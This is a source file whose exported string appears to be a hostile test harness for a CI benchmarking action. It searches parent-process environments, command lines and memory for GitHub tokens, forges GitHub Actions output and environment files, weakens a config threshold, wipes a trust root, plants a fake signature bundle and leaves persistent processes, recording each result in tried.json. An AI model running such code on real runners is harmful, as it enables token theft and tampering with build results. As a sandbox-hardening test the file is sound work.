/**
 * The body of a harness that measures well, and tries besides what a program can do that nobody vouches for. What came of
 * each attempt stands in `tried.json` in the checkout: `true` where it succeeded.
 */
export const HOSTILE = `
const tried = {};
const attempt = (name, body) => {
  try { tried[name] = body() === true; } catch { tried[name] = false; }
};
const TOKEN = /ghs_|ACTIONS_(?:RUNTIME_TOKEN|ID_TOKEN_REQUEST_TOKEN)=|INPUT_TOKEN=|GITHUB_TOKEN=/;
const parentOf = (pid) => Number(/^PPid:\\s*(\\d+)/m.exec(fs.readFileSync('/proc/' + pid + '/status', 'utf8'))[1]);
const above = [];
for (let pid = parentOf('self'); pid > 1 && above.length < 8; pid = parentOf(pid)) above.push(pid);
// what started the job is no part of it
const step = above.find((pid) => /main\\.js|mira\\.js|dist/.test(fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8'))) ?? above[0];
const environ = (() => { try { return fs.readFileSync('/proc/' + step + '/environ', 'utf8'); } catch { return ''; } })();
const variable = (name) => (environ.split('\\0').find((entry) => entry.startsWith(name + '=')) ?? '').slice(name.length + 1);

attempt('tokens in its own environment', () => TOKEN.test(Object.entries(process.env).map((entry) => entry.join('=')).join('\\n')));
attempt('the name of a token file in its own environment', () => Object.keys(process.env).some((name) => /^GITHUB_|^RUNNER_|^ACTIONS_/.test(name)));
attempt('tokens in the environment of the step', () => TOKEN.test(environ));
attempt('tokens in the arguments of the step', () => TOKEN.test(fs.readFileSync('/proc/' + step + '/cmdline', 'utf8')));
attempt('tokens in the memory of the step', () => {
  const memory = fs.openSync('/proc/' + step + '/mem', 'r');
  const ranges = fs.readFileSync('/proc/' + step + '/maps', 'utf8').matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw.. \\S+ \\S+ 0\\s*(?:\\[heap\\])?$/gm);
  for (const [, from, to] of ranges) {
    const size = Math.min(Number(BigInt('0x' + to) - BigInt('0x' + from)), 64 * 1024 * 1024);
    const bytes = Buffer.alloc(size);
    try { fs.readSync(memory, bytes, 0, size, BigInt('0x' + from)); } catch { continue; }
    if (/ghs_[A-Za-z0-9]{8}/.test(bytes.toString('latin1'))) return true;
  }
  return false;
});
attempt('descriptors that the step left open', () => fs.readdirSync('/proc/self/fd').some((fd) => {
  if (Number(fd) < 3) return false;
  const target = fs.readlinkSync('/proc/self/fd/' + fd);
  return target.includes(variable('RUNNER_TEMP') || '_temp') || /_runner_file_commands/.test(target);
}));
for (const name of ['GITHUB_ENV', 'GITHUB_OUTPUT', 'GITHUB_PATH', 'GITHUB_STATE', 'GITHUB_STEP_SUMMARY'])
  attempt('the file of ' + name, () => { fs.appendFileSync(variable(name), name === 'GITHUB_PATH' ? '/hacked\\n' : 'HACKED=yes\\n'); return true; });
attempt('an output of the step', () => { fs.appendFileSync(variable('GITHUB_OUTPUT'), 'verdict=hacked\\n'); return true; });
attempt('the rules', () => { fs.writeFileSync('mira.yml', fs.readFileSync('mira.yml', 'utf8').replace('margin: 0.1', 'margin: 0.9')); return true; });
attempt('the trust root', () => { fs.writeFileSync('trusted_root.json', '{}'); return true; });
attempt('the action itself', () => {
  const dist = path.dirname(fs.readFileSync('/proc/' + step + '/cmdline', 'utf8').split('\\0').find((word) => word.endsWith('.js')));
  fs.accessSync(dist, fs.constants.W_OK);
  return true;
});
attempt('files of the step about the baseline', () => {
  const found = fs.readdirSync(variable('RUNNER_TEMP'), { recursive: true }).filter((name) => /mira-samples.*zst$/.test(name));
  for (const name of found) fs.appendFileSync(path.join(variable('RUNNER_TEMP'), name), 'x');
  return found.length > 0;
});
attempt('a bundle beside those of the run', () => { fs.mkdirSync('mira-out', { recursive: true }); fs.writeFileSync('mira-out/mira-evaluation.sigstore.json', '{}'); return true; });
attempt('a process in its own group', () => {
  spawn('sh', ['-c', 'while :; do date > stayed.txt; sleep 0.05; done'], { stdio: 'ignore' }).unref();
  return true;
});
attempt('a process in a session of its own', () => {
  const child = spawn('sh', ['-c', 'while [ ! -e end ]; do date > left.txt; sleep 0.05; done'], { stdio: 'ignore', detached: true });
  child.unref();
  tried['pid of the session'] = child.pid;
  return true;
});
console.log('::set-output name=verdict::hacked');
console.error('::add-mask::toy');
fs.writeFileSync('tried.json', JSON.stringify(tried));
`;
